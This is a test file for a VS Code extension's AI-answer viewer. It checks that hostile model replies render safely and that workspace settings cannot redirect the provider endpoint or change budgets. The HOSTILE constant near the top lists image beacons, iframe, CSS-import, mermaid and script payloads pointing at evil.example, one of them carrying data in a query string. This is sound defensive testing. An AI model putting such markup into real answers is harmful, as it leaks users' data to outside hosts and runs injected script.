/** What a hostile model or repository could reach through the editor. */
import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { answering } from '../models/providers/chat-replies.js';
import { Asks, until } from './asks.js';

/** Everything by which a rendered page could load something or run something. */
const HOSTILE = [
  '`![code](x)` and **bold** and [a link](https://example.com/)',
  '![beacon](https://evil.example/b.png?d=code)',
  '![ref][r]',
  '[r]: https://evil.example/ref.png',
  '<img src="https://evil.example/i.png">',
  'inline <img src=//evil.example/j.png onerror=alert(1)> here',
  '<svg><image href="https://evil.example/s.png"/></svg>',
  '<style>@import url("https://evil.example/s.css");</style>',
  '<video poster="https://evil.example/p.png"></video>',
  '<iframe src="https://evil.example"></iframe>',
  '<p style="background:url(https://evil.example/k.png)">x</p>',
  '<script>alert(1)</script>',
  '```mermaid\nflowchart TD\n  A@{ img: "https://evil.example/m.png" }\n```',
  ':::mermaid\nflowchart TD\n  A@{ img: "https://evil.example/m2.png" }\n:::',
  '- ```\n```\n![late](https://evil.example/late.png)',
  '$$\n```\n$$\n![math](https://evil.example/math.png)',
].join('\n\n');

describe('red team: the editor', () => {
  let asks: Asks;
  before(async () => {
    asks = await Asks.start();
  });
  after(() => asks.stop());

  it('renders an answer without anything that loads from elsewhere, and leaves its text as it came', async () => {
    asks.server.answer(answering([HOSTILE]));
    await asks.begin('what is in the answer');
    await asks.send();
    await vscode.commands.executeCommand('longview.openAnswer');
    const shown = (): vscode.TextDocument | undefined =>
      vscode.window.visibleTextEditors.find((e) => e.document.uri.scheme === 'longview-answer' && e.document.getText().includes('beacon'))
        ?.document;
    await until(() => shown()?.getText().includes('tokens in') === true);
    assert.ok(shown()?.getText().includes(HOSTILE));
    const html = await vscode.commands.executeCommand<string>('markdown.api.render', shown());
    // Neither a tag that loads nor one with an address: links, which load nothing until they are clicked, alone.
    assert.doesNotMatch(html, /<(?:img|svg|image|style|link|video|audio|source|iframe|object|embed|script|meta|base|form|input)\b/i);
    assert.doesNotMatch(html, /<[^>]* (?:src|srcset|poster|background|on\w+)=|style="[^"]*url|class="[^"]*mermaid/i);
    assert.match(html, /<code>!\[beacon\]\(https:\/\/evil\.example\/b\.png\?d=code\)<\/code>/);
    assert.match(html, /<strong>bold<\/strong>/);
    assert.match(html, /&lt;img src=/);
  });

  it('leaves the preview of other documents as it is', async () => {
    const document = await vscode.workspace.openTextDocument({ language: 'markdown', content: '![a](https://example.com/a.png)' });
    assert.match(await vscode.commands.executeCommand<string>('markdown.api.render', document), /<img /);
  });

  it('takes no address of a provider, no price and no limit of what may be spent from a workspace', async () => {
    const folder = vscode.workspace.workspaceFolders![0]!.uri;
    const settings = {
      endpoints: { anthropic: { baseUrl: 'https://evil.example' } },
      budgets: { day: 1e6 },
      prices: { 'anthropic/*': { input: 0, output: 0 } },
      confirmAbove: 1e6,
    };
    const before = Object.keys(settings).map((name) => vscode.workspace.getConfiguration('longview').get(name));
    for (const [name, value] of Object.entries(settings))
      await assert.rejects(
        async () => await vscode.workspace.getConfiguration('longview').update(name, value, vscode.ConfigurationTarget.Workspace),
        name,
      );
    // As a repository would bring them along.
    const file = vscode.Uri.joinPath(folder, '.vscode', 'settings.json');
    const brought = Object.fromEntries(
      Object.entries({ ...settings, 'rulesCheck.model': 'evil/dear' }).map(([k, v]) => [`longview.${k}`, v]),
    );
    try {
      await vscode.workspace.fs.writeFile(file, new TextEncoder().encode(JSON.stringify(brought)));
      await until(() => vscode.workspace.getConfiguration('longview').get('rulesCheck.model') === 'evil/dear');
      assert.deepEqual(
        Object.keys(settings).map((name) => vscode.workspace.getConfiguration('longview').get(name)),
        before,
      );
    } finally {
      await vscode.workspace.fs.delete(file);
      await until(() => vscode.workspace.getConfiguration('longview').get('rulesCheck.model') === '');
    }
  });
});
